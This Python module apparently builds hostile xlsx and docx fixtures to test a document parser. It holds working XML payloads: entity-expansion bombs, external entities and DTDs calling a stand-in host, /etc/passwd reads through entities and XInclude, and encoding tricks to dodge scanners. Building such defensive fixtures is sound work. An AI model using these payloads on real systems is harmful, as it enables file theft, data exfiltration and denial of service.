"""XML that reads other files, calls other machines, or grows while it is read: in every part of a package."""

from __future__ import annotations

from hostile.catalogue import add, hostile, package, put
from hostile.zips import BOOK, LINKS, SHEET

QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
TYPES = {
    "a quadratic blow-up": (QUADRATIC, "To make two gigabytes of one long entity, named many times."),
    "an entity on the web": ('<!DOCTYPE x [<!ENTITY e SYSTEM "http://203.0.113.9/x">]>', "To be told who opened it."),
    "a file of the disk": (
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "To have a file of the school read.",
    ),
    "a document type of elsewhere": ('<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd">', "To have rules fetched."),
    "a parameter entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://203.0.113.9/p"> %p;]>', "To send a file away."),
    "a public document type": (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://203.0.113.9/">',
        "To call out.",
    ),
}
for told, (declared, wants) in TYPES.items():
    add(
        told,
        "xlsx",
        wants,
        lambda declared=declared: package("xlsx", {SHEET: lambda c: declared.encode() + c}),
        "forbidden-markup",
    )

PLACES = {
    "the list of parts": ("_rels/.rels", "xlsx"),
    "the links of a workbook": (LINKS, "xlsx"),
    "a workbook": (BOOK, "xlsx"),
    "the properties": ("docProps/core.xml", "xlsx"),
    "the properties of a school": ("docProps/custom.xml", "xlsx"),
    "the styles": ("xl/styles.xml", "xlsx"),
    "a hidden sheet": ("xl/worksheets/sheet2.xml", "xlsx"),
    "a page of Word": ("word/document.xml", "docx"),
    "the links of a page": ("word/_rels/document.xml.rels", "docx"),
    "a header of Word": ("word/header2.xml", "docx"),
    "a footer of Word": ("word/footer1.xml", "docx"),
}
for told, (part, kind) in PLACES.items():
    add(
        f"laughs in {told}",
        kind,
        "To have three gigabytes made of a kilobyte, in a part that is looked at less.",
        lambda part=part, kind=kind: package(kind, {part: lambda c: LAUGHS.encode() + _undeclared(c)}),
        "forbidden-markup",
    )
add(
    "laughs in the kinds of the parts",
    "xlsx",
    "The same in a part that formgen never reads.",
    lambda: package("xlsx", {"[Content_Types].xml": lambda c: LAUGHS.encode() + c}),
)
add(
    "laughs in a theme",
    "xlsx",
    "The same in another part that formgen never reads.",
    lambda: package("xlsx", {"xl/theme/theme1.xml": lambda c: LAUGHS.encode() + c}),
)


def _undeclared(content: bytes) -> bytes:
    """The part without its first line, which must be first."""
    return content.partition(b"?>")[2] if content.startswith(b"<?xml") else content


@hostile("xlsx")
def a_part_included_from_the_disk() -> bytes:
    """To have a file of the school put into an answer by XInclude."""
    told = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return package("xlsx", {SHEET: put("<sheetData>", f"{told}<sheetData>")})


@hostile("xlsx")
def a_style_sheet_of_elsewhere() -> bytes:
    """To have a style sheet or a schema fetched, and run."""
    told = '<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?><worksheet '
    schema = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://203.0.113.9/x.xsd" '
    )
    return package("xlsx", {SHEET: put("<worksheet ", told + schema)})


@hostile("xlsx", "forbidden-markup")
def a_document_type_in_two_bytes_a_letter() -> bytes:
    """To hide a document type from whoever looks for it byte by byte."""
    return package(
        "xlsx", {SHEET: lambda c: ("<?xml version='1.0' encoding='utf-16'?>" + LAUGHS + c.decode()).encode("utf-16")}
    )


@hostile("xlsx", "damaged")
def letters_of_a_mainframe() -> bytes:
    """To hide markup in EBCDIC."""
    return package(
        "xlsx", {SHEET: lambda c: ("<?xml version='1.0' encoding='cp037'?>" + c.decode()).encode("cp037", "ignore")}
    )


@hostile("xlsx", "damaged")
def an_encoding_that_unpacks() -> bytes:
    """To have a codec of Python run that is not for text."""
    return package("xlsx", {SHEET: lambda c: b"<?xml version='1.0' encoding='zlib'?>" + c})


@hostile("xlsx", "damaged")
def bytes_that_are_no_letters() -> bytes:
    """To smuggle a quotation mark in as half of a letter."""
    return package("xlsx", {SHEET: lambda c: c.replace(b"Q01", b"Q\xc0\xa201", 1)})


@hostile("xlsx", "too-much-markup")
def a_million_names_of_namespaces() -> bytes:
    """To fill the memory with declarations."""
    many = "".join(f'<a xmlns:n{n}="u:{n}"/>' for n in range(60_000))
    return package("xlsx", {SHEET: put("<sheetData>", f"{many}<sheetData>")})


@hostile("xlsx", "too-much-markup")
def comments_without_end() -> bytes:
    """To have 18 MB of remarks read."""
    return package("xlsx", {SHEET: put("<sheetData>", f"<!--{'x' * 18_000_000}--><sheetData>")})


@hostile("xlsx", "too-much-markup")
def a_million_instructions() -> bytes:
    """To have a handler called a million times for nothing."""
    return package("xlsx", {SHEET: put("<sheetData>", f"{'<?a b?>' * 1_000_000}<sheetData>")})


@hostile("xlsx", "too-much-markup")
def a_million_references() -> bytes:
    """To have letters handed over one by one."""
    return package("xlsx", {SHEET: put("Wrenfield", "&#119;" * 1_100_000)})


@hostile("xlsx", "too-much-markup")
def a_thousand_nested_elements() -> bytes:
    """To use up the stack."""
    return package("xlsx", {SHEET: put("<sheetData>", "<extLst>" * 1_000 + "</extLst>" * 1_000 + "<sheetData>")})


@hostile("xlsx", "damaged")
def letters_that_are_forbidden() -> bytes:
    """To have control characters stored, and shown on a terminal."""
    return package("xlsx", {SHEET: put("Wrenfield", "\x1b[2J\x07")})


@hostile("xlsx", "damaged")
def half_a_letter() -> bytes:
    """To have half of a pair of surrogates stored, which no program can write again."""
    return package("xlsx", {SHEET: put("Wrenfield", "&#xD800;")})
